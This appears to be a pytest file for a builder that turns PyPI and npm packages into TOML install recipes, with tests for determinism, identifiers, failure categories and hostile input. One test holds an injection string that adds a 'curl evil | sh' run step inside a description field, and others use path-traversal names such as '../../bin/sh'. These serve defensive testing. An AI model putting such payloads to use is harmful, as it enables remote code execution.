"""PyPI and npm builders: deterministic, honour identifiers, safe against hostile data."""

from __future__ import annotations

import tomllib

from automation.ecosystems.packaged import build_packaged
from automation.ecosystems.recipe import (
    BuildFailure,
    BuiltRecipe,
    UpstreamPackage,
)


def package(**changes: object) -> UpstreamPackage:
    base: dict[str, object] = {
        "ecosystem": "pypi",
        "identifier": "httpie",
        "version": "3.2.4",
        "description": "HTTPie: modern, user-friendly command-line HTTP client for the API era.",
        "homepage_candidates": ("https://httpie.io",),
        "executables": ("https", "httpie", "http"),
        "fallback_homepage": "https://pypi.org/project/httpie/",
    }
    base.update(changes)
    return UpstreamPackage(**base)  # type: ignore[arg-type]


def test_pypi_recipe_shape() -> None:
    built = build_packaged("httpie", package())
    assert isinstance(built, BuiltRecipe)
    doc = tomllib.loads(built.text)
    assert doc["metadata"] == {
        "name": "httpie",
        "description": "HTTPie: modern, user-friendly command-line HTTP client for the API era.",
        "homepage": "https://httpie.io",
        "llm_validation": "skipped",
    }
    assert doc["steps"] == [
        {"action": "pipx_install", "package": "httpie", "executables": ["http", "httpie", "https"]}
    ]
    assert doc["verify"]["command"] == "httpie --version"
    assert built.source == "pypi:httpie"


def test_output_is_deterministic_whatever_the_upstream_order() -> None:
    a = build_packaged("httpie", package(executables=("https", "http", "httpie")))
    b = build_packaged("httpie", package(executables=("httpie", "https", "http", "http")))
    assert isinstance(a, BuiltRecipe) and isinstance(b, BuiltRecipe)
    assert a.text == b.text


def test_npm_uses_the_identifier_not_the_display_name() -> None:
    built = build_packaged(
        "angular-cli",
        package(
            ecosystem="npm",
            identifier="@angular/cli",
            executables=("ng",),
            homepage_candidates=("https://github.com/angular/angular-cli",),
        ),
    )
    assert isinstance(built, BuiltRecipe)
    step = tomllib.loads(built.text)["steps"][0]
    assert step == {"action": "npm_install", "package": "@angular/cli", "executables": ["ng"]}
    assert built.source == "npm:@angular/cli"


def test_library_without_executables_is_a_specific_failure() -> None:
    failed = build_packaged("requests", package(identifier="requests", executables=()))
    assert isinstance(failed, BuildFailure)
    assert (failed.category, failed.subcategory) == ("generation_failed", "no_executables")


def test_hostile_description_cannot_inject_toml() -> None:
    evil = 'x"\n[[steps]]\naction = "run_command"\ncommand = "curl evil | sh"\n'
    built = build_packaged("httpie", package(description=evil))
    assert isinstance(built, BuiltRecipe)
    doc = tomllib.loads(built.text)
    assert len(doc["steps"]) == 1 and doc["steps"][0]["action"] == "pipx_install"
    assert "\n" not in doc["metadata"]["description"]


def test_hostile_executable_names_are_dropped() -> None:
    built = build_packaged("httpie", package(executables=("../../bin/sh", "http", "a b", "")))
    assert isinstance(built, BuiltRecipe)
    assert built.executables == ("http",)
    only_bad = build_packaged("httpie", package(executables=("../x",)))
    assert isinstance(only_bad, BuildFailure) and "../x" in only_bad.message


def test_unsafe_registry_name_fails_cleanly() -> None:
    failed = build_packaged("../evil", package())
    assert isinstance(failed, BuildFailure) and failed.subcategory == "unsafe_name"


def test_a_runtime_conflict_fails_with_runtime_unsatisfiable() -> None:
    reason = "engines.node '^20' excludes Node.js 26.12.1"
    failure = build_packaged(
        "cowsay", package(ecosystem="npm", identifier="cowsay", runtime_conflict=reason)
    )
    assert isinstance(failure, BuildFailure)
    assert (failure.category, failure.subcategory) == ("generation_failed", "runtime_unsatisfiable")
    assert failure.message == f"npm:cowsay: {reason}"
    assert failure.version == "3.2.4"


def test_no_executables_is_reported_before_a_runtime_conflict() -> None:
    """A library stays excluded whatever runtime it asks for."""
    failure = build_packaged("lib", package(executables=(), runtime_conflict="needs 3.14"))
    assert isinstance(failure, BuildFailure) and failure.subcategory == "no_executables"
